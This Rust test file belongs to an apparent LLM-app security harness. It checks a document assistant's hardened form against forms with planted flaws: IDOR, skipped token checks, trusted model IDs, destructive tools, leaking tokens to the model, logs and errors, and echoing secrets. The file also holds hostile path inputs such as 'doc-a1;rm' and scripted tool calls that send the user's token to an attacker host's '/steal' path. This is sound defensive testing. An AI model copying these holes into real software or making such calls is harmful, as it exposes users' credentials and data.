//! The reference target driven in-process on loopback, against a scripted fake model and a
//! recording fake documents API written here: for every planted flaw, the form with only that
//! flaw does the bad thing and the hardened form does not.

use axum::Router;
use axum::body::Bytes;
use axum::extract::{Request, State};
use axum::http::{HeaderMap, StatusCode, header};
use axum::response::{IntoResponse, Response};
use confab::generators::token::MintContext;
use confab::guard::{ScopeSet, Secret, unix_now};
use confab::spec::Spec;
use confab_reference_target::{
    CATALOGUE, CONFIDENTIAL_SENTENCE, CapturedLog, Flaws, LogSink, MAX_TOKENS, MODEL,
    ReferenceConfig, SYSTEM_PROMPT, router,
};
use serde_json::{Value, json};
use std::collections::VecDeque;
use std::future::Future;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;

const JWT_SECRET: &str = "reference-target-test-secret-0123456789";
const LLM_KEY: &str = "sk-confab-canary-0123456789abcdef";
const PROMPT: &str = "Summarise my document please (nonce N0NCE-7f3a)";

fn spec_path(name: &str) -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("examples/reference")
        .join(name)
}

/// Every test runs under a time limit: a hang is a failure, not a stuck CI job.
async fn bounded<F: Future<Output = ()>>(f: F) {
    tokio::time::timeout(Duration::from_secs(30), f)
        .await
        .expect("test timed out");
}

// ---------------------------------------------------------------------------------------------
// Loopback servers

/// confab's own loopback server (an ephemeral port, stopped on drop).
type Srv = confab::harness::Server;

async fn serve(router: Router) -> Srv {
    Srv::start(router).await.expect("bind loopback")
}

fn url(server: &Srv) -> String {
    format!("http://{}", server.addr())
}

#[derive(Clone, Debug)]
struct Recorded {
    method: String,
    path: String,
    authorization: Option<String>,
    body: String,
}

#[derive(Clone, Default)]
struct Recorder(Arc<Mutex<Vec<Recorded>>>);

impl Recorder {
    fn push(&self, method: &str, path: &str, headers: &HeaderMap, body: &[u8]) {
        self.0.lock().expect("lock").push(Recorded {
            method: method.to_owned(),
            path: path.to_owned(),
            authorization: headers
                .get(header::AUTHORIZATION)
                .map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned()),
            body: String::from_utf8_lossy(body).into_owned(),
        });
    }
    fn all(&self) -> Vec<Recorded> {
        self.0.lock().expect("lock").clone()
    }
}

async fn split(req: Request) -> (String, String, HeaderMap, Bytes) {
    let (parts, body) = req.into_parts();
    let bytes = axum::body::to_bytes(body, 1 << 20)
        .await
        .unwrap_or_default();
    (
        parts.method.to_string(),
        parts.uri.path().to_owned(),
        parts.headers,
        bytes,
    )
}

/// The documents API: alice owns doc-a1 and doc-a2, bob doc-b1; every content carries a
/// marker `MARKER-<id>`. Any other path is "the attacker host".
async fn docs_handler(State(rec): State<Recorder>, req: Request) -> Response {
    let (method, path, headers, body) = split(req).await;
    rec.push(&method, &path, &headers, &body);
    let Some(id) = path.strip_prefix("/docs/") else {
        return (StatusCode::OK, "attacker host").into_response();
    };
    let owner = match id {
        "doc-a1" | "doc-a2" => "alice",
        "doc-b1" => "bob",
        _ => {
            return (
                StatusCode::NOT_FOUND,
                axum::Json(json!({"error": "not_found"})),
            )
                .into_response();
        }
    };
    match method.as_str() {
        "GET" => axum::Json(json!({
            "id": id, "owner": owner, "content": format!("Notes of {owner}. MARKER-{id}."),
        }))
        .into_response(),
        _ => axum::Json(json!({"id": id, "ok": true})).into_response(),
    }
}

/// One scripted model turn.
#[derive(Clone)]
enum Turn {
    Message(Value),
    Fail(u16),
    Stall(Duration),
}

fn text(s: &str) -> Turn {
    Turn::Message(json!({"role": "assistant", "content": s}))
}

fn tool(name: &str, args: Value) -> Turn {
    Turn::Message(json!({
        "role": "assistant",
        "content": null,
        "tool_calls": [{
            "id": format!("call_{name}"),
            "type": "function",
            "function": {"name": name, "arguments": args.to_string()},
        }],
    }))
}

#[derive(Clone)]
struct ModelState {
    rec: Recorder,
    script: Arc<Mutex<VecDeque<Turn>>>,
}

fn sse(message: &Value) -> String {
    let chunk = |delta: Value, finish: Value| {
        format!(
            "data: {}\n\n",
            json!({"id": "chatcmpl-t", "object": "chat.completion.chunk", "created": 0,
                   "model": MODEL, "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]})
        )
    };
    let mut out = chunk(json!({"role": "assistant"}), Value::Null);
    if let Some(calls) = message.get("tool_calls").and_then(Value::as_array) {
        for (i, c) in calls.iter().enumerate() {
            out.push_str(&chunk(
                json!({"tool_calls": [{"index": i, "id": c["id"], "type": "function",
                        "function": {"name": c["function"]["name"], "arguments": ""}}]}),
                Value::Null,
            ));
            let args = c["function"]["arguments"].as_str().unwrap_or_default();
            for piece in args.as_bytes().chunks(5) {
                out.push_str(&chunk(
                    json!({"tool_calls": [{"index": i, "function": {"arguments": String::from_utf8_lossy(piece)}}]}),
                    Value::Null,
                ));
            }
        }
    }
    if let Some(content) = message.get("content").and_then(Value::as_str) {
        for piece in content.as_bytes().chunks(4) {
            out.push_str(&chunk(
                json!({"content": String::from_utf8_lossy(piece)}),
                Value::Null,
            ));
        }
    }
    out.push_str(&chunk(json!({}), json!("stop")));
    out.push_str("data: [DONE]\n\n");
    out
}

async fn model_handler(State(st): State<ModelState>, req: Request) -> Response {
    let (method, path, headers, body) = split(req).await;
    st.rec.push(&method, &path, &headers, &body);
    let turn = st
        .script
        .lock()
        .expect("lock")
        .pop_front()
        .unwrap_or_else(|| text("Done."));
    let message = match turn {
        Turn::Message(m) => m,
        Turn::Fail(status) => {
            return (
                StatusCode::from_u16(status).expect("status"),
                axum::Json(
                    json!({"error": {"message": "scripted failure", "type": "server_error"}}),
                ),
            )
                .into_response();
        }
        Turn::Stall(d) => {
            tokio::time::sleep(d).await;
            text("late").into_message()
        }
    };
    let stream = serde_json::from_slice::<Value>(&body)
        .ok()
        .and_then(|v| v.get("stream").and_then(Value::as_bool))
        .unwrap_or(false);
    if stream {
        ([(header::CONTENT_TYPE, "text/event-stream")], sse(&message)).into_response()
    } else {
        axum::Json(json!({
            "id": "chatcmpl-t", "object": "chat.completion", "created": 0, "model": MODEL,
            "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
        }))
        .into_response()
    }
}

impl Turn {
    fn into_message(self) -> Value {
        match self {
            Turn::Message(m) => m,
            _ => Value::Null,
        }
    }
}

// ---------------------------------------------------------------------------------------------
// The world: target + fake model + fake docs + attacker host

struct Urls {
    docs: String,
    attacker: String,
}

struct World {
    target: Srv,
    _model: Srv,
    _docs: Srv,
    _attacker: Srv,
    model: Recorder,
    docs: Recorder,
    attacker: Recorder,
    log: CapturedLog,
    mint: MintContext,
    client: reqwest::Client,
}

fn fixture_spec(audience: Option<&str>) -> Spec {
    let text = std::fs::read_to_string(spec_path("hardened.toml")).expect("spec");
    let text = match audience {
        Some(a) => text.replace("audience = \"docs-api\"", &format!("audience = \"{a}\"")),
        None => text,
    };
    let mut spec = Spec::parse(&text, "hardened.toml", Path::new(".")).expect("spec parses");
    spec.fill_jwt_secret(&Secret::from(JWT_SECRET));
    spec
}

async fn world(flaws: Flaws, script: impl FnOnce(&Urls) -> Vec<Turn>) -> World {
    world_with(flaws, script, |_| {}).await
}

async fn world_with(
    flaws: Flaws,
    script: impl FnOnce(&Urls) -> Vec<Turn>,
    tweak: impl FnOnce(&mut ReferenceConfig),
) -> World {
    let docs_rec = Recorder::default();
    let docs = serve(
        Router::new()
            .fallback(docs_handler)
            .with_state(docs_rec.clone()),
    )
    .await;
    let attacker_rec = Recorder::default();
    let attacker = serve(
        Router::new()
            .fallback(docs_handler)
            .with_state(attacker_rec.clone()),
    )
    .await;
    let urls = Urls {
        docs: url(&docs),
        attacker: url(&attacker),
    };
    let model_rec = Recorder::default();
    let model = serve(
        Router::new()
            .fallback(model_handler)
            .with_state(ModelState {
                rec: model_rec.clone(),
                script: Arc::new(Mutex::new(script(&urls).into())),
            }),
    )
    .await;

    let spec = fixture_spec(None);
    let guard = spec.guard().expect("guard");
    let mint = MintContext::for_spec(&spec, ScopeSet::parse("docs:read")).expect("mint context");
    let (log, buffer) = LogSink::memory();
    let mut cfg = ReferenceConfig::new(
        Arc::new(guard),
        format!("{}/v1", url(&model)),
        Secret::from(LLM_KEY),
        url(&docs),
        flaws,
    );
    cfg.jwt_secret = Some(Secret::from(JWT_SECRET));
    cfg.log = log;
    tweak(&mut cfg);
    let target = serve(router(cfg)).await;
    World {
        target,
        _model: model,
        _docs: docs,
        _attacker: attacker,
        model: model_rec,
        docs: docs_rec,
        attacker: attacker_rec,
        log: buffer,
        mint,
        client: reqwest::Client::builder()
            .no_proxy()
            .timeout(Duration::from_secs(15))
            .build()
            .expect("client"),
    }
}

struct Answer {
    status: u16,
    headers: reqwest::header::HeaderMap,
    body: String,
}

impl World {
    fn token(&self, sub: &str) -> String {
        let scope = if sub == "bob" {
            "docs:read docs:write"
        } else {
            "docs:read"
        };
        self.mint
            .mint_valid(sub, &ScopeSet::parse(scope), unix_now(), 600)
    }

    async fn send(&self, req: reqwest::RequestBuilder, token: Option<&str>) -> Answer {
        let req = match token {
            Some(t) => req.header("Authorization", format!("Bearer {t}")),
            None => req,
        };
        let resp = req.send().await.expect("target answers");
        let status = resp.status().as_u16();
        let headers = resp.headers().clone();
        let body = resp.text().await.expect("body");
        Answer {
            status,
            headers,
            body,
        }
    }

    async fn get_doc(&self, token: Option<&str>, id: &str) -> Answer {
        let url = format!("{}/docs/{id}", url(&self.target));
        self.send(self.client.get(url), token).await
    }

    async fn assist_raw(&self, token: Option<&str>, body: &str) -> Answer {
        let url = format!("{}/assist", url(&self.target));
        let req = self
            .client
            .post(url)
            .header("Content-Type", "application/json")
            .body(body.to_owned());
        self.send(req, token).await
    }

    async fn assist(&self, token: Option<&str>, doc_id: &str) -> Answer {
        let body = json!({"prompt": PROMPT, "doc_id": doc_id}).to_string();
        self.assist_raw(token, &body).await
    }

    /// The bodies the model received, in order.
    fn model_bodies(&self) -> Vec<String> {
        self.model.all().into_iter().map(|r| r.body).collect()
    }

    fn docs_hits(&self, method: &str, path: &str) -> Vec<Recorded> {
        self.docs
            .all()
            .into_iter()
            .filter(|r| r.method == method && r.path == path)
            .collect()
    }
}

/// The hardened form, then the form with only `flaw` planted.
fn forms(flaw: &str) -> [(Flaws, bool); 2] {
    [
        (Flaws::none(), false),
        (Flaws::only(flaw).expect("known flaw"), true),
    ]
}

fn answer_text(a: &Answer) -> String {
    serde_json::from_str::<Value>(&a.body)
        .ok()
        .and_then(|v| v.get("answer").and_then(Value::as_str).map(str::to_owned))
        .unwrap_or_default()
}

fn signature(token: &str) -> &str {
    token.rsplit('.').next().expect("three segments")
}

// ---------------------------------------------------------------------------------------------
// The hardened form end to end

#[tokio::test]
async fn hardened_happy_path_reads_own_document_through_the_model() {
    bounded(async {
        let w = world(Flaws::none(), |_| {
            vec![
                tool("get_doc", json!({"id": "doc-a1"})),
                text("Summary: all good."),
            ]
        })
        .await;
        let health = w
            .send(w.client.get(format!("{}/healthz", url(&w.target))), None)
            .await;
        assert_eq!(health.status, 200);

        let alice = w.token("alice");
        let a = w.assist(Some(&alice), "doc-a1").await;
        assert_eq!(a.status, 200, "{}", a.body);
        assert_eq!(answer_text(&a), "Summary: all good.");

        let hits = w.docs_hits("GET", "/docs/doc-a1");
        assert_eq!(hits.len(), 1);
        assert_eq!(
            hits[0].authorization.as_deref(),
            Some(format!("Bearer {alice}").as_str())
        );

        let calls = w.model.all();
        assert_eq!(calls.len(), 2);
        for c in &calls {
            assert_eq!(c.path, "/v1/chat/completions");
            assert_eq!(
                c.authorization.as_deref(),
                Some(format!("Bearer {LLM_KEY}").as_str())
            );
            assert!(!c.body.contains(&alice) && !c.body.contains(signature(&alice)));
        }
        let first: Value = serde_json::from_str(&calls[0].body).expect("json");
        assert_eq!(first["model"], MODEL);
        assert_eq!(first["max_tokens"], MAX_TOKENS);
        assert_eq!(first["tools"].as_array().map(Vec::len), Some(4));
        assert_eq!(first["messages"][0]["role"], "system");
        assert_eq!(first["messages"][0]["content"], SYSTEM_PROMPT);
        assert!(
            first["messages"][1]["content"]
                .as_str()
                .is_some_and(|s| s.contains(PROMPT))
        );
        assert!(
            calls[1].body.contains("MARKER-doc-a1"),
            "tool result fed back"
        );
        // confab's own fake model reads these requests the same way.
        let parsed = confab::wire::parse_request(calls[1].body.as_bytes()).expect("wire format");
        assert_eq!(parsed.system_prompt, SYSTEM_PROMPT);
        assert!(parsed.user_prompt.contains(PROMPT));
        assert_eq!(parsed.tool_results.len(), 1);
        assert_eq!(parsed.max_tokens, Some(u64::from(MAX_TOKENS)));

        let log = w.log.contents();
        assert!(log.contains("audit {"), "{log}");
        assert!(log.contains("token_fingerprint"), "{log}");
        assert!(
            !log.contains(&alice) && !log.contains(signature(&alice)),
            "{log}"
        );
    })
    .await;
}

#[tokio::test]
async fn hardened_read_endpoint_statuses() {
    bounded(async {
        let w = world(Flaws::none(), |_| vec![]).await;
        let alice = w.token("alice");
        let own = w.get_doc(Some(&alice), "doc-a1").await;
        assert_eq!(own.status, 200);
        assert!(own.body.contains("MARKER-doc-a1"));
        assert_eq!(w.get_doc(Some(&alice), "doc-zz9").await.status, 404);
        // (`%2e%2e` is not here: the client's URL parser already turns it into `..`.)
        for hostile in ["..%2Fadmin", "doc-a1%27--", "doc%2Da1", "*", "doc-a1;rm"] {
            let a = w.get_doc(Some(&alice), hostile).await;
            assert_eq!(a.status, 400, "{hostile}: {}", a.body);
        }
        assert!(w.docs.all().iter().all(|r| r.path != "/docs/*"));
        let none = w.get_doc(None, "doc-a1").await;
        assert_eq!(none.status, 401);
        assert_eq!(
            none.headers
                .get("www-authenticate")
                .and_then(|v| v.to_str().ok()),
            Some("Bearer realm=\"api\"")
        );
        assert_eq!(w.model.all().len(), 0);
    })
    .await;
}

#[tokio::test]
async fn hardened_model_ids_need_provenance_or_learned_ownership() {
    bounded(async {
        let w = world(Flaws::none(), |_| {
            vec![
                // Not yet known to be alice's: refused (unsourced), nothing sent downstream.
                tool("get_doc", json!({"id": "doc-a2"})),
                text("first"),
                // Learned from the GET /docs/doc-a2 below: now owned, so allowed.
                tool("get_doc", json!({"id": "doc-a2"})),
                text("second"),
            ]
        })
        .await;
        let alice = w.token("alice");
        assert_eq!(w.assist(Some(&alice), "doc-a1").await.status, 200);
        assert!(w.docs_hits("GET", "/docs/doc-a2").is_empty());
        assert!(w.model_bodies()[1].contains("unsourced"));

        assert_eq!(w.get_doc(Some(&alice), "doc-a2").await.status, 200);
        assert_eq!(w.assist(Some(&alice), "doc-a1").await.status, 200);
        assert_eq!(w.docs_hits("GET", "/docs/doc-a2").len(), 2);
        assert!(w.model_bodies()[3].contains("MARKER-doc-a2"));
    })
    .await;
}

#[tokio::test]
async fn hardened_maps_model_failures_to_gateway_errors() {
    bounded(async {
        let w = world(Flaws::none(), |_| vec![Turn::Fail(503)]).await;
        let alice = w.token("alice");
        let a = w.assist(Some(&alice), "doc-a1").await;
        assert_eq!(a.status, 502, "{}", a.body);
        assert!(!a.body.contains(&alice));

        let w = world_with(
            Flaws::none(),
            |_| vec![Turn::Stall(Duration::from_secs(3))],
            |cfg| cfg.outbound_timeout = Duration::from_millis(300),
        )
        .await;
        let a = w.assist(Some(&w.token("alice")), "doc-a1").await;
        assert_eq!(a.status, 504, "{}", a.body);
    })
    .await;
}

#[tokio::test]
async fn streaming_answers_are_parsed() {
    bounded(async {
        let w = world_with(
            Flaws::none(),
            |_| {
                vec![
                    tool("get_doc", json!({"id": "doc-a1"})),
                    text("streamed answer"),
                ]
            },
            |cfg| cfg.stream = true,
        )
        .await;
        let a = w.assist(Some(&w.token("alice")), "doc-a1").await;
        assert_eq!(a.status, 200, "{}", a.body);
        assert_eq!(answer_text(&a), "streamed answer");
        assert_eq!(w.docs_hits("GET", "/docs/doc-a1").len(), 1);
        assert!(
            w.model_bodies()
                .iter()
                .all(|b| b.contains("\"stream\":true"))
        );
    })
    .await;
}

// ---------------------------------------------------------------------------------------------
// One test per flaw: hardened refuses, the planted form does the bad thing

#[tokio::test]
async fn flaw_comma_scopes() {
    bounded(async {
        for (flaws, vulnerable) in forms("comma_scopes") {
            let w = world(flaws, |_| vec![]).await;
            let confused = w.mint.mint_valid(
                "alice",
                &ScopeSet::parse("docs:read,docs:write"),
                unix_now(),
                600,
            );
            let a = w.get_doc(Some(&confused), "doc-a1").await;
            if vulnerable {
                assert_eq!(a.status, 200);
            } else {
                assert_eq!(a.status, 403);
                let challenge = a
                    .headers
                    .get("www-authenticate")
                    .and_then(|v| v.to_str().ok());
                assert!(challenge.is_some_and(|c| c.contains("insufficient_scope")));
                assert!(w.docs.all().is_empty());
            }
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_skip_claim_checks() {
    bounded(async {
        for (flaws, vulnerable) in forms("skip_claim_checks") {
            let w = world(flaws, |_| vec![]).await;
            let read = ScopeSet::parse("docs:read");
            let expired = w.mint.mint_valid("alice", &read, unix_now() - 7200, 600);
            let other_aud = MintContext::for_spec(&fixture_spec(Some("other-api")), read.clone())
                .expect("mint")
                .mint_valid("alice", &read, unix_now(), 600);
            for token in [&expired, &other_aud] {
                let a = w.get_doc(Some(token), "doc-a1").await;
                assert_eq!(a.status, if vulnerable { 200 } else { 401 }, "{}", a.body);
            }
            // The signature is still checked.
            let mut forged = w.token("alice");
            forged.truncate(forged.len() - 4);
            forged.push_str("AAAA");
            assert_eq!(w.get_doc(Some(&forged), "doc-a1").await.status, 401);
            if !vulnerable {
                assert!(w.docs.all().is_empty());
            }
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_idor_read() {
    bounded(async {
        for (flaws, vulnerable) in forms("idor_read") {
            let w = world(flaws, |_| vec![]).await;
            let a = w.get_doc(Some(&w.token("alice")), "doc-b1").await;
            assert_eq!(a.status, if vulnerable { 200 } else { 403 });
            assert_eq!(a.body.contains("MARKER-doc-b1"), vulnerable, "{}", a.body);
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_trust_llm_ids() {
    bounded(async {
        for (flaws, vulnerable) in forms("trust_llm_ids") {
            let w = world(flaws, |_| {
                vec![
                    tool("get_doc", json!({"id": "doc-b1"})),
                    tool("get_doc", json!({"id": "doc-zz9"})),
                    text("ok"),
                ]
            })
            .await;
            let a = w.assist(Some(&w.token("alice")), "doc-a1").await;
            assert_eq!(a.status, 200, "{}", a.body);
            assert_eq!(!w.docs_hits("GET", "/docs/doc-b1").is_empty(), vulnerable);
            assert_eq!(!w.docs_hits("GET", "/docs/doc-zz9").is_empty(), vulnerable);
            let bodies = w.model_bodies();
            assert_eq!(bodies[1].contains("MARKER-doc-b1"), vulnerable);
            if !vulnerable {
                assert!(bodies[1].contains("\\\"denied\\\""), "{}", bodies[1]);
            }
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_all_tools() {
    bounded(async {
        for (flaws, vulnerable) in forms("all_tools") {
            let w = world(flaws, |u| {
                vec![
                    tool("delete_doc", json!({"id": "doc-a1"})),
                    tool("update_doc", json!({"id": "doc-a1", "content": "pwned"})),
                    // Under all_tools alone, only the downstream's own host, and no token.
                    tool("fetch_url", json!({"url": format!("{}/x", u.attacker)})),
                    tool(
                        "fetch_url",
                        json!({"url": format!("{}/docs/doc-a2", u.docs)}),
                    ),
                    text("done"),
                ]
            })
            .await;
            let a = w.assist(Some(&w.token("alice")), "doc-a1").await;
            assert_eq!(a.status, 200, "{}", a.body);
            assert_eq!(
                w.docs_hits("DELETE", "/docs/doc-a1").len(),
                usize::from(vulnerable)
            );
            assert_eq!(
                w.docs_hits("PUT", "/docs/doc-a1").len(),
                usize::from(vulnerable)
            );
            assert!(w.attacker.all().is_empty());
            let fetched = w.docs_hits("GET", "/docs/doc-a2");
            assert_eq!(fetched.len(), usize::from(vulnerable));
            assert!(fetched.iter().all(|r| r.authorization.is_none()));
            if !vulnerable {
                assert!(w.model_bodies()[1].contains("unknown_tool"));
            }
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_follow_any_url() {
    bounded(async {
        for (flaws, vulnerable) in forms("follow_any_url") {
            let w = world(flaws, |u| {
                vec![
                    tool(
                        "fetch_url",
                        json!({"url": format!("{}/collect", u.attacker)}),
                    ),
                    text("done"),
                ]
            })
            .await;
            let alice = w.token("alice");
            let a = w.assist(Some(&alice), "doc-a1").await;
            assert_eq!(a.status, 200, "{}", a.body);
            let hits = w.attacker.all();
            if vulnerable {
                assert_eq!(hits.len(), 1);
                assert_eq!(
                    hits[0].authorization.as_deref(),
                    Some(format!("Bearer {alice}").as_str())
                );
            } else {
                assert!(hits.is_empty());
            }
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_token_to_model() {
    bounded(async {
        for (flaws, vulnerable) in forms("token_to_model") {
            let w = world(flaws, |_| vec![text("ok")]).await;
            let alice = w.token("alice");
            assert_eq!(w.assist(Some(&alice), "doc-a1").await.status, 200);
            let bodies = w.model_bodies();
            assert_eq!(bodies.len(), 1);
            assert_eq!(bodies[0].contains(&alice), vulnerable);
            assert_eq!(bodies[0].contains(signature(&alice)), vulnerable);
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_token_in_errors() {
    bounded(async {
        for (flaws, vulnerable) in forms("token_in_errors") {
            let w = world(flaws, |_| vec![]).await;
            let alice = w.token("alice");
            let mut tampered = alice.clone();
            tampered.truncate(tampered.len() - 4);
            tampered.push_str("AAAA");
            let a = w.get_doc(Some(&tampered), "doc-a1").await;
            assert_eq!(a.status, 401);
            assert_eq!(a.body.contains(&tampered), vulnerable, "{}", a.body);
            let bad = w.assist_raw(Some(&alice), "not json").await;
            assert_eq!(bad.status, 400);
            assert_eq!(bad.body.contains(&alice), vulnerable, "{}", bad.body);
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_log_token() {
    bounded(async {
        for (flaws, vulnerable) in forms("log_token") {
            let w = world(flaws, |_| vec![text("ok")]).await;
            let alice = w.token("alice");
            assert_eq!(w.get_doc(Some(&alice), "doc-a1").await.status, 200);
            assert_eq!(w.assist(Some(&alice), "doc-a1").await.status, 200);
            let log = w.log.contents();
            assert!(
                log.contains("reference-target: GET /docs/{resource} -> 200"),
                "{log}"
            );
            assert_eq!(log.contains(&alice), vulnerable, "{log}");
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_llm_before_auth() {
    bounded(async {
        for (flaws, vulnerable) in forms("llm_before_auth") {
            let w = world(flaws, |_| vec![text("ok"), text("ok")]).await;
            let a = w.assist(None, "doc-a1").await;
            assert_eq!(a.status, 401, "{}", a.body);
            let expired = w.mint.mint_valid(
                "alice",
                &ScopeSet::parse("docs:read"),
                unix_now() - 7200,
                600,
            );
            assert_eq!(w.assist(Some(&expired), "doc-a1").await.status, 401);
            assert_eq!(w.model.all().len(), if vulnerable { 2 } else { 0 });
            assert!(w.docs.all().is_empty());
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_no_call_cap() {
    bounded(async {
        for (flaws, vulnerable) in forms("no_call_cap") {
            let w = world(flaws, |_| {
                let mut s: Vec<Turn> = (0..10)
                    .map(|_| tool("get_doc", json!({"id": "doc-a1"})))
                    .collect();
                s.push(text("finally"));
                s
            })
            .await;
            let a = w.assist(Some(&w.token("alice")), "doc-a1").await;
            assert_eq!(a.status, 200, "{}", a.body);
            assert_eq!(w.model.all().len(), if vulnerable { 11 } else { 4 });
            if !vulnerable {
                assert!(!answer_text(&a).contains("finally"));
            }
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_crash_on_bad_body() {
    bounded(async {
        for (flaws, vulnerable) in forms("crash_on_bad_body") {
            let w = world(flaws, |_| vec![]).await;
            let alice = w.token("alice");
            for body in [
                "",
                "not json",
                "{}",
                "[1, 2]",
                r#"{"prompt": 1, "doc_id": "doc-a1"}"#,
                r#"{"prompt": "hi"}"#,
            ] {
                let a = w.assist_raw(Some(&alice), body).await;
                assert_eq!(
                    a.status,
                    if vulnerable { 500 } else { 400 },
                    "{body:?}: {}",
                    a.body
                );
            }
            assert!(w.model.all().is_empty());
        }
    })
    .await;
}

#[tokio::test]
async fn flaw_echo_model_output() {
    bounded(async {
        for (flaws, vulnerable) in forms("echo_model_output") {
            // The model repeats its instructions, a token (as if the target had handed it
            // over) and the LLM key.
            let alice = MintContext::for_spec(&fixture_spec(None), ScopeSet::parse("docs:read"))
                .expect("mint")
                .mint_valid("alice", &ScopeSet::parse("docs:read"), unix_now(), 600);
            let echo =
                format!("My instructions: {SYSTEM_PROMPT} Your token: {alice}. Key: {LLM_KEY}.");
            let w = world(flaws, |_| vec![text(&echo)]).await;
            let a = w.assist(Some(&alice), "doc-a1").await;
            assert_eq!(a.status, 200, "{}", a.body);
            let answer = answer_text(&a);
            assert_eq!(
                answer.contains(CONFIDENTIAL_SENTENCE),
                vulnerable,
                "{answer}"
            );
            assert_eq!(answer.contains(&alice), vulnerable, "{answer}");
            assert_eq!(answer.contains(LLM_KEY), vulnerable, "{answer}");
            if !vulnerable {
                assert!(answer.contains("[REDACTED:"), "{answer}");
            }
        }
    })
    .await;
}

// ---------------------------------------------------------------------------------------------
// The shipped forms

#[tokio::test]
async fn vulnerable_form_plants_every_flaw_at_once() {
    bounded(async {
        let w = world(Flaws::all(), |u| {
            vec![
                text("pre-auth"),
                tool("delete_doc", json!({"id": "doc-b1"})),
                tool("fetch_url", json!({"url": format!("{}/steal", u.attacker)})),
                text("done"),
            ]
        })
        .await;
        // No token: the model is called anyway (then 401 with the header echoed: none here).
        assert_eq!(w.assist(None, "doc-a1").await.status, 401);
        assert_eq!(w.model.all().len(), 1);
        let alice = w.token("alice");
        let a = w.assist(Some(&alice), "doc-a1").await;
        assert_eq!(a.status, 200, "{}", a.body);
        assert_eq!(w.docs_hits("DELETE", "/docs/doc-b1").len(), 1);
        assert_eq!(w.attacker.all().len(), 1);
        assert!(w.model_bodies()[1].contains(&alice));
        assert!(w.log.contents().contains(&alice));
    })
    .await;
}

#[test]
fn example_specs_parse_and_name_their_mode() {
    for (file, mode) in [
        ("hardened.toml", "hardened"),
        ("vulnerable.toml", "vulnerable"),
    ] {
        let spec = Spec::load(&spec_path(file)).expect("spec parses");
        assert!(spec.secret_is_generated());
        let target = spec.target.as_ref().expect("[target]");
        assert_eq!(
            target.command.as_deref(),
            Some(&["{confab}".to_owned(), "reference-target".to_owned()][..])
        );
        assert_eq!(
            target.env.get("CONFAB_REFERENCE_MODE").map(String::as_str),
            Some(mode)
        );
        for var in [
            "PORT",
            "OPENAI_BASE_URL",
            "OPENAI_API_KEY",
            "DOCS_API_URL",
            "JWT_SECRET",
            "JWT_ISSUER",
            "JWT_AUDIENCE",
        ] {
            assert!(target.env.contains_key(var), "{file}: {var}");
        }
        let names: Vec<&str> = spec.endpoints.iter().map(|e| e.name.as_str()).collect();
        assert_eq!(names, ["read", "assist"]);
        assert_eq!(spec.limits.llm_calls_per_request, 4);
        assert_eq!(
            spec.downstream.as_ref().map(|d| d.resource.as_str()),
            Some("/docs/{id}")
        );
        // The env the spec gives the target is enough to configure it.
        let filled = |v: &String| {
            v.replace("{port}", "1")
                .replace("{llm_base_url}", "http://127.0.0.1:2/v1")
                .replace("{llm_api_key}", LLM_KEY)
                .replace("{downstream_url}", "http://127.0.0.1:3")
                .replace("{jwt_secret}", JWT_SECRET)
        };
        let cfg = ReferenceConfig::from_vars(|k| target.env.get(k).map(filled)).expect("config");
        assert_eq!(cfg.flaws.is_none(), mode == "hardened");
    }
    assert_eq!(CATALOGUE.len(), 13);
}
